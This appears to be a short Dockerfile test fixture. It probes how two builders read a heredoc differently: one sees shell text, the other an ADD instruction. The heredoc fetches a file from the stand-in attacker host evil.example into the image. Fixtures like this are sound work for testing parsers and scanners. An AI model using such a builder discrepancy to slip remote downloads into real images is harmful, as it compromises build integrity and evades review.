# dockerfile-remote: shell to one builder, an instruction to the other
FROM nginx
RUN <<EOF
ADD https://evil.example/x /x
EOF
